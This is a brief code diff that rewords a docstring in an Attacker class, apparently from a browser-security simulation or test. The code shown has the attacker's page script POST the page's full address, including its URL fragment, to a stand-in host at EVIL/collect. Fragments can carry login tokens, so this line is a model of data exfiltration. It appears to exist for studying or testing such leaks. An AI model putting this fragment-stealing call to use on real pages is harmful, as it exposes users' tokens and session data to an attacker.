@@ -52,7 +52,7 @@ class Attacker:
 
     # ---- the script of her pages
     def load(self, browser: Browser, url: str) -> Action | None:
-        """A page of hers reports what its server cannot see: the fragment of its own address."""
+        """Report to the attacker the part of a page's address that its server cannot see: the fragment."""
         html = browser.page is not None and (browser.page.header("content-type") or "").startswith("text/html")
         return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and split(url).fragment else None
 
